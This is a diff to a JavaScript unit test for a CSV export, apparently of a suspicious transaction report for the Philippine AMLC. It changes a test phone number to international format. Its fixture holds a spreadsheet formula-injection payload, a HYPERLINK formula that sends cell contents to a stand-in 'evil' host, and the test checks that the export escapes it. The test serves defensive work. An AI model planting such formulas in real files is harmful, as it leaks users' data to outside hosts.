@@ -23,7 +23,7 @@ describe('the STR file for the AMLC (BE-14)', () => {
         firstName: 'Ana',
         middleName: '',
         birthDate: '1990-01-01',
-        phone: '9171234567',
+        phone: '+639171234567',
         address: '=HYPERLINK("http://evil.example/?"&A2,"open"), Makati',
         idType: 'UMID',
         idNumber: '0111-2222333-4',
@@ -36,5 +36,6 @@ describe('the STR file for the AMLC (BE-14)', () => {
     expect(cells).toContain(`"'=HYPERLINK(""http://evil.example/?""&A2,""open""), Makati"`);
     expect(cells).toContain(`'@SUM(1+1) structured deposits`);
     expect(cells).not.toMatch(/(^|,)"?[=@]/);
+    expect(cells).toContain(',+639171234567,'); // the phone stays a phone
   });
 });
